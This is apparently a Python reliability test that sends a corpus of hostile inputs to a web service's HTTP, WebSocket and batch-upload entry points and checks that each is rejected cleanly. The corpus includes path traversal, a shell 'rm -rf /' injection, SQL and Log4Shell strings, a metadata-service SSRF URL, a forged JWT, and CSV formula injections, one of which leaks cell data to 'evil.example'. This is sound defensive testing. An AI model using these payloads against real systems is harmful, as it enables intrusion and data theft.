"""Bad input corpus: hostile OS numbers, task ids, query strings and bodies over HTTP,
hostile WebSocket messages and tokens, hostile batch files and upload keys. Each gets a
clear 4xx, an error message, a rejected file or a reported invalid line; nothing answers
5xx; formulas never reach a results file as formulas; normal lookups work afterwards.

Longer than 400 lines: most of it is the corpus itself, over a hundred hostile inputs each
with what it must provoke."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from dataclasses import dataclass, field
from typing import Any, Callable
from urllib.parse import quote, unquote_plus

import requests
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus

from chalicelib.domain.tasks import TaskStatus
from reliability.clients import Requester
from reliability.harness import Harness, Stack, wait_until
from reliability.report import Row
from reliability.scenarios.common import (
    as_dict,
    check_notifications,
    notifications,
    numbers,
    settle,
)

__all__ = ["ANSWERED", "INGEST_HELD", "Params", "run"]

TITLE = "a corpus of hostile input at every entry point"
#: A cell a spreadsheet would run as a formula (CSV injection), unless quoted with '.
FORMULA = ("=", "+", "-", "@", "\t", "\r")
ANSWERED = (
    "every one answered with a clear 4xx, an error message, a rejected file or a reported "
    "invalid line (upload keys that are not batches: ignored)"
)
INGEST_HELD = "the ingest never failed on a file or key"
#: An answer that names the problem never needs to echo a huge input.
MAX_ANSWER_BYTES = 2048
_ID = "0123456789abcdef0123456789abcdef"


@dataclass
class Params:
    first_os: int = 660_000
    #: The settings' batch_max_lines for the run (a file one line over it is sent).
    max_lines: int = 2000
    timeout: float = 240


@dataclass
class Outcome:
    kind: str
    case: str
    ok: bool
    answer: str


@dataclass
class Corpus:
    outcomes: list[Outcome] = field(default_factory=list)
    statuses: list[int] = field(default_factory=list)

    def add(self, kind: str, case: str, ok: bool, answer: str) -> None:
        self.outcomes.append(Outcome(kind, case, ok, answer))

    def by_kind(self) -> dict[str, str]:
        kinds: dict[str, list[Outcome]] = {}
        for o in self.outcomes:
            kinds.setdefault(o.kind, []).append(o)
        return {k: f"{sum(o.ok for o in v)}/{len(v)}" for k, v in kinds.items()}


def short(value: Any, width: int = 32) -> str:
    text = value.decode("latin-1") if isinstance(value, bytes) else str(value)
    text = text.encode("unicode_escape").decode()
    return text if len(text) <= width else f"{text[: width - 8]}…({len(text)})"


# ------------------------------------------------------------------ HTTP
#: OS numbers as typed into the URL (percent-escapes kept as they are).
NUMBERS_IN_PATH = [
    "..%2F..%2Fadmin",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252F..%252Fetc%252Fpasswd",
    "123456%2F..%2F..%2Fadmin",
    "%2F",
    "1" * 5_000,
    "9" * 40,
    quote("١٢٣٤٥٦"),
    quote("１２３４５６"),
    quote("۱۲۳۴۵۶"),
    "%00",
    "123456%00",
    "-123456",
    "+123456",
    "1e5",
    "0x1F",
    "12%2034",
    "%20",
    quote("123456;rm -rf /", safe=""),
    quote("123456' OR '1'='1", safe=""),
    quote("${jndi:ldap://x/a}", safe=""),
    quote("http://169.254.169.254/latest/meta-data", safe=""),
    "%E2%80%AE123456",
    "%C0%AF",
    "%FF%FE",
    quote('=HYPERLINK("http://x","y")', safe=""),
]
TASK_IDS_IN_PATH = [
    "..%2F..%2Fetc%2Fpasswd",
    "os%23123456",
    "rate%23user01%230",
    "x" * 5_000,
    "%00",
    _ID.upper(),
]
REFRESH = ["maybe", "%00", "x" * 3_000, "true%26refresh%3Dmaybe"]
LOOKUP_BODIES = [
    b"[" * 100_000,
    b'{"a":' * 600 + b"1" + b"}" * 600,
    b"x" * (2 * 1024 * 1024),
    b"\xff\xfe\xfd",
    b'{"a": "\xff"}',
    b"not json",
    b"[1, 2]",
    b"\x00" * 16,
    b'{"a": 1} {"b": 2}',
]
BATCH_BODIES: list[Any] = [
    {"size": -1},
    {"size": "10"},
    {"size": 10**12},
    {"size": 1.5},
    {"size": True},
    {"size": 10, "filename": "x" * 1_000},
    {"size": 10, "filename": ["a.csv"]},
    b"[" * 50_000,
    b"\xff\xfe",
    b"[]",
]


def _clear_4xx(response: requests.Response) -> tuple[bool, str]:
    """A 4xx with a JSON body naming the problem, short (no echo of the input)."""
    try:
        body = response.json()
    except ValueError:
        body = None
    named = isinstance(body, dict) and any(
        isinstance(body.get(k), str) and body.get(k) for k in ("error", "message", "Message")
    )
    code = (body or {}).get("error") or (body or {}).get("Code") or "" if named else ""
    ok = 400 <= response.status_code < 500 and named and len(response.content) <= MAX_ANSWER_BYTES
    return ok, f"{response.status_code} {code}".strip()


def http_corpus(stack: Stack, who: Requester, corpus: Corpus) -> None:
    api = stack.h.api_url

    def send(case: str, method: str, path: str, **kwargs: Any) -> None:
        response = who.http.request(method, api + path, timeout=60, **kwargs)
        corpus.statuses.append(response.status_code)
        ok, answer = _clear_4xx(response)
        corpus.add("HTTP", case, ok, answer)

    json_header = {"Content-Type": "application/json"}
    for numero in NUMBERS_IN_PATH:
        send(f"POST /buscar-os-async/{short(numero)}", "POST", f"/buscar-os-async/{numero}")
    for numero in NUMBERS_IN_PATH[:8]:
        send(f"GET /os/{short(numero)}", "GET", f"/os/{numero}")
    for task_id in TASK_IDS_IN_PATH:
        send(f"GET /scraping-status/{short(task_id)}", "GET", f"/scraping-status/{task_id}")
    for flag in REFRESH:
        send(f"refresh={short(flag)}", "POST", f"/buscar-os-async/123456?refresh={flag}")
    for body in LOOKUP_BODIES:
        send(
            f"lookup body {short(body)}",
            "POST",
            "/buscar-os-async/123456",
            data=body,
            headers=json_header,
        )
    for body in BATCH_BODIES:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        send(f"POST /batches {short(data)}", "POST", "/batches", data=data, headers=json_header)
    anonymous = requests.post(f"{api}/buscar-os-async/123456", timeout=30)
    corpus.statuses.append(anonymous.status_code)
    corpus.add("HTTP", "no token", *_clear_4xx(anonymous))
    forged = requests.post(
        f"{api}/buscar-os-async/123456",
        headers={"Authorization": "Bearer " + who.token[:-4] + "AAAA"},
        timeout=30,
    )
    corpus.statuses.append(forged.status_code)
    corpus.add("HTTP", "forged token", *_clear_4xx(forged))


# ------------------------------------------------------------- WebSocket
WS_MESSAGES: list[str | bytes | dict[str, Any]] = [
    "x" * 5_000,
    "é" * 2_100,
    "",
    "not json",
    "{",
    "[" * 4_000,
    "[]",
    "null",
    "42",
    {},
    {"action": "dance"},
    {"action": "SUBSCRIBE"},
    {"action": {"$ne": None}},
    {"action": "subscribe"},
    {"action": "subscribe", "task_id": "../../etc/passwd"},
    {"action": "subscribe", "task_id": "os#123456"},
    {"action": "subscribe", "task_id": {"$ne": None}},
    {"action": "subscribe", "task_id": [_ID]},
    {"action": "subscribe", "task_id": _ID + "\n"},
    {"action": "subscribe", "task_id": _ID},  # the right shape, but no such task
    '{"action": "subscribe", "task_id": 1' + "0" * 3_000 + "}",
    b"\xff\xfe\xfd",
    b"\x00" * 10,
    b'{"action": "subscribe", "task_id": "\xff"}',
]
WS_TOKENS = ["", "x" * 5_000, "a.b.c", "eyJhbGciOiJub25lIn0.e30."]


def websocket_corpus(stack: Stack, who: Requester, corpus: Corpus) -> None:
    sock = who.socket
    assert sock is not None
    for message in WS_MESSAGES:
        data = json.dumps(message) if isinstance(message, dict) else message
        before = len(sock.received())
        sock.send(data)
        wait_until(lambda n=before: len(sock.received()) > n, 10, 0.02)
        replies = sock.received()[before:]
        reply = replies[0] if replies else {}
        ok = (
            len(replies) == 1
            and reply.get("status") == "error"
            and reply.get("error") in ("invalid_message", "task_not_found")
            and bool(reply.get("message"))
            and len(json.dumps(reply)) <= MAX_ANSWER_BYTES
        )
        corpus.add("WebSocket message", short(data), ok, str(reply.get("error") or replies))
    # A message over API Gateway's 128 KB: the gateway closes the connection (1009).
    big = stack.h.hub.open(who.token)
    stack.sockets.append(big)
    with contextlib.suppress(Exception):  # the gateway may close before the send ends
        big.send("x" * (200 * 1024))
    wait_until(lambda: big.close_code is not None, 10, 0.05)
    corpus.add(
        "WebSocket message",
        "200 KB message",
        big.close_code == 1009,
        f"connection closed {big.close_code}",
    )
    for token in WS_TOKENS:
        # Refused by $connect's 401, which the gateway answers the handshake with (as API
        # Gateway does with its integration's status).
        status = _handshake(stack, token)
        corpus.add("WebSocket connect", f"token {short(token)}", status == 401, f"{status}")


def _handshake(stack: Stack, token: str) -> int:
    async def attempt() -> int:
        try:
            ws = await connect(f"{stack.h.gateway.url}/?token={quote(token)}")
        except InvalidStatus as exc:
            return exc.response.status_code
        await ws.close()
        return 101

    return int(stack.h.hub.run(attempt()))


# --------------------------------------------------------------- batches
def batch_files(first: int, max_lines: int) -> list[tuple[str, bytes, Callable[[dict], bool], str]]:
    """(case, file, check of the batch's final view, what is expected)."""
    n = [str(first + i) for i in range(12)]
    injected = [
        '=HYPERLINK("http://evil.example/?x="&A1,"clique aqui")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        " =1+1",
    ]

    def rejected(word: str) -> Callable[[dict], bool]:
        return lambda view: view["status"] == "rejected" and word in (view.get("error") or "")

    def invalid(count: int, valid: int) -> Callable[[dict], bool]:
        return lambda view: (
            view["status"] == "complete"
            and view["counts"]["invalid"] == count
            and view["counts"]["valid"] == valid
        )

    formulas = ("numero_os\n" + "\n".join(injected) + f"\n{n[0]}\n").encode()
    return [
        ("CSV injection (formulas)", formulas, invalid(len(injected), 1), "6 invalid lines"),
        (
            "formula in a header and in another column",
            f"=cmd|' /C calc'!A0;numero_os;obs\nx;{n[1]};=HYPERLINK(\"http://x\")\n".encode(),
            invalid(0, 1),
            "number column read, the rest ignored",
        ),
        (
            "invalid UTF-8 bytes",
            f"numero_os\n{n[2]}\n".encode() + b"\xff\xfe\xfa\n\xc3\x28\n",
            invalid(2, 1),
            "2 invalid lines",
        ),
        (
            "UTF-8 BOM, then invalid UTF-8",
            b"\xef\xbb\xbfnumero_os\n" + n[3].encode() + b"\n\xff\xfe\n",
            rejected("BOM"),
            "rejected",
        ),
        ("NUL bytes", f"{n[4]}\n".encode() + b"\x00\x00\x00\n", rejected("NUL"), "rejected"),
        ("UTF-16", "numero_os\n123456\n".encode("utf-16"), rejected("UTF-16"), "rejected"),
        (
            "huge lines",
            f"numero_os\n{n[5]}\n".encode() + b"9" * 200_000 + b"\n" + b"A" * 100_000 + b"\n",
            lambda view: invalid(2, 1)(view) or rejected("")(view),
            "2 invalid lines, or rejected",
        ),
        (
            "Unicode digits, signs, spaces inside",
            f"{n[6]}\n١٢٣٤٥٦\n１２３４５６\n-{n[7]}\n12 34\n0x1F\n".encode(),
            invalid(5, 1),
            "5 invalid lines",
        ),
        (
            "quoted line break, CR-only endings",
            f'numero_os\r"abc\rdef"\r=1+1\r{n[8]}\r'.encode(),
            invalid(3, 1),
            "3 invalid lines",
        ),
        (
            "several columns, none named for numbers",
            b"a;b;c\n1;2;3\n4;5;6\n",
            rejected("columns"),
            "rejected",
        ),
        ("only blank lines", b"\n\n \n\t\n", rejected("no lines"), "rejected"),
        (
            f"{max_lines + 1} lines (over the limit)",
            ("\n".join(str(first + 1000 + i) for i in range(max_lines + 1)) + "\n").encode(),
            rejected(str(max_lines)),
            "rejected",
        ),
    ]


UPLOAD_KEYS = [
    "batches/../../etc/passwd.csv",
    "batches/user01/../../x.csv",
    "batches/..%2F..%2Fx.csv",
    "batches/user01/%2e%2e.csv",
    "batches/user01/not a batch id!.csv",
    "batches/user01/x/y/z.csv",
]


def upload(who: Requester, api: str, body: bytes, filename: str = "lista.csv") -> str:
    created = who.http.post(
        f"{api}/batches", json={"size": len(body), "filename": filename}, timeout=60
    )
    created.raise_for_status()
    info = created.json()
    put = requests.put(
        info["upload"]["url"], data=body, headers=info["upload"]["headers"], timeout=60
    )
    put.raise_for_status()
    return str(info["batch_id"])


def batch_view(who: Requester, api: str, batch_id: str) -> dict[str, Any]:
    return who.http.get(f"{api}/batches/{batch_id}", timeout=60).json()


def formula_cells(raw: bytes) -> tuple[list[str], list[str]]:
    """Cells of a results CSV a spreadsheet would run as formulas, and those neutralised
    (the same with a leading ``'``, which makes it text)."""
    text = raw.decode("utf-8-sig")
    live, quoted = [], []
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        for cell in row:
            if cell.startswith(FORMULA) or cell.lstrip().startswith(FORMULA):
                live.append(cell)
            elif cell.startswith("'") and cell[1:].lstrip().startswith(FORMULA):
                quoted.append(cell)
    return live, quoted


class IngestLog:
    """The ingest handler, recording which upload keys it handled and which made it raise."""

    def __init__(self, handler: Callable[[dict, Any], Any]) -> None:
        self.handler = handler
        self.handled: set[str] = set()
        self.raised: dict[str, str] = {}

    def __call__(self, event: dict, context: Any) -> Any:
        keys = []
        for record in event.get("Records", []):
            try:
                body = json.loads(record.get("body") or "")
            except ValueError:
                continue
            for notice in (body.get("Records") or []) if isinstance(body, dict) else []:
                keys.append(
                    unquote_plus(((notice.get("s3") or {}).get("object") or {}).get("key", ""))
                )
        try:
            return self.handler(event, context)
        except Exception as exc:
            for key in keys:
                self.raised[key] = f"{type(exc).__name__}: {str(exc)[:120]}"
            raise
        finally:
            self.handled.update(keys)


def batch_corpus(
    stack: Stack, who: Requester, p: Params, corpus: Corpus, log: IngestLog
) -> dict[str, Any]:
    api = stack.h.api_url
    files = batch_files(p.first_os, p.max_lines)
    started = {
        upload(who, api, body): (case, check, expected) for case, body, check, expected in files
    }
    # Another user's batch, overwritten through a key of one's own name.
    victim = who.http.post(f"{api}/batches", json={"size": 7, "filename": "v.csv"}, timeout=60)
    victim_id = victim.json()["batch_id"]
    stack.s3.put_object(
        Bucket=stack.settings.batch_bucket, Key=f"batches/user02/{victim_id}.csv", Body=b"123456\n"
    )
    for key in UPLOAD_KEYS:
        stack.s3.put_object(Bucket=stack.settings.batch_bucket, Key=key, Body=b"123456\n")
    final: dict[str, dict[str, Any]] = {}

    def key(batch_id: str) -> str:
        return f"batches/{who.user}/{batch_id}.csv"

    def all_final() -> bool:
        for batch_id in started:
            if batch_id not in final:
                view = batch_view(who, api, batch_id)
                if view.get("status") in ("complete", "rejected") or key(batch_id) in log.raised:
                    final[batch_id] = view
        return len(final) == len(started)

    wait_until(all_final, p.timeout, 0.5)
    neutralised, live_formulas = 0, []
    for batch_id, (case, check, expected) in started.items():
        view = final.get(batch_id) or batch_view(who, api, batch_id)
        ok = check(view)
        answer = view.get("status", "?")
        if key(batch_id) in log.raised:
            answer = f"the ingest raised {log.raised[key(batch_id)]}; batch left {answer}"
        elif view.get("status") == "rejected":
            answer = f"rejected: {short(view.get('error'), 60)}"
        elif view.get("status") == "complete":
            answer = f"{view['counts']['invalid']} invalid lines"
            raw = requests.get(view["results"]["csv_url"], timeout=60).content
            live, quoted = formula_cells(raw)
            live_formulas += live
            neutralised += len(quoted)
            ok = ok and not live
        corpus.add("batch file", case, ok, f"{answer} (expected {expected})")
    victim_view = batch_view(who, api, victim_id)
    corpus.add(
        "upload key",
        "another user's batch id under one's own name",
        victim_view.get("status") == "awaiting_upload",
        f"victim batch {victim_view.get('status')}",
    )
    return {"neutralised": neutralised, "live": live_formulas, "keys": UPLOAD_KEYS}


def run(h: Harness, p: Params) -> Row:
    row = Row("bad_input", TITLE, as_dict(p))
    changes = {"batch_max_lines": p.max_lines, "retry_base_delay_seconds": 1}
    corpus = Corpus()
    with h.stack("bad_input", **changes) as stack:
        [who] = stack.requesters(1)
        stack.worker()
        log = IngestLog(stack.app.batch_ingest)
        ingest = stack.ingest(log)
        http_corpus(stack, who, corpus)
        websocket_corpus(stack, who, corpus)
        files = batch_corpus(stack, who, p, corpus, log)
        wait_until(lambda: all(k in log.handled for k in files["keys"]), 30, 0.2)
        batches = {b.key for b in stack.m.Batch.scan(stack.m.Batch.kind == "batch")}
        strays = [k for k in files["keys"] if k in batches]
        for key in files["keys"]:
            handled = key in log.handled and key not in log.raised and key not in batches
            answer = log.raised.get(key) or ("ignored" if key in log.handled else "not handled")
            corpus.add("upload key", key, handled, answer)
        # Afterwards: the user's whole rate limit of new scrapes, followed on the socket.
        fresh = numbers(p.first_os + 500, stack.settings.rate_limit)
        answers = [(who, who.lookup(n)) for n in fresh]
        task_ids = {a.task_id for _, a in answers if a.task_id}
        served = settle(stack, task_ids, 120, asked=answers)
        told = notifications(answers)
        succeeded = sum(
            1 for t in stack.tasks() if t.pk in task_ids and t.status == TaskStatus.SUCCESS
        )
        record = who.http.get(f"{h.api_url}/os/{fresh[0]}", timeout=60)
        ingest_errors = ingest.stats.errors
        letters = stack.dead_letters()
    failures = [o for o in corpus.outcomes if not o.ok]
    fivexx = [s for s in corpus.statuses if s >= 500]
    row.figures.update(
        {
            "hostile inputs": len(corpus.outcomes),
            "answered as expected, by entry point": corpus.by_kind(),
            "5xx answers": len(fivexx),
            "formula cells neutralised in results files": files["neutralised"],
            "formula cells left live": len(files["live"]),
            "ingest invocations that raised": ingest_errors,
            "lookups afterwards": f"{len(task_ids)} accepted, {succeeded} succeeded",
            "DLQ letters": len(letters),
        }
    )
    row.check("at least 60 hostile inputs", len(corpus.outcomes) >= 60, len(corpus.outcomes))
    row.check(
        ANSWERED,
        not failures,
        f"{len(corpus.outcomes) - len(failures)}/{len(corpus.outcomes)}",
    )
    row.check("no 5xx", not fivexx, f"{len(fivexx)} of {len(corpus.statuses)} HTTP answers")
    row.check(
        "no formula reaches a results file as a formula",
        not files["live"] and files["neutralised"] > 0,
        f"{files['neutralised']} neutralised, {len(files['live'])} live",
    )
    row.check(
        INGEST_HELD,
        ingest_errors == 0 and not log.raised and not strays and not letters,
        f"{ingest_errors} errors, {len(strays)} batches from keys, {len(letters)} dead letters"
        + "".join(f"; {k}: {e}" for k, e in log.raised.items()),
    )
    row.check(
        "normal lookups afterwards: the user's whole rate limit accepted and scraped",
        served and len(task_ids) == len(fresh) == succeeded and record.status_code == 200,
        f"{len(task_ids)}/{len(fresh)} accepted, {succeeded} SUCCESS, GET /os {record.status_code}",
    )
    check_notifications(row, told, len(fresh))
    row.notes += [f"{o.kind} {o.case}: {o.answer}" for o in failures[:15]]
    row.details = [
        f"{'ok' if o.ok else 'FAIL'} · {o.kind} · `{o.case}` → {o.answer}" for o in corpus.outcomes
    ]
    row.extra.update(failed_cases=[o.case for o in failures], ingest_raised=dict(log.raised))
    row.notes.append(
        "HTTP through Chalice's local server with a valid token (and two without one); "
        "WebSocket messages on a real connection to the local gateway, one reply awaited "
        "each; batch files uploaded with `POST /batches` and the presigned PUT, ingested "
        "from the bucket's notification; upload keys put straight in the bucket. Results "
        "files are downloaded and every cell checked for a leading = + - @ tab or CR."
    )
    return row
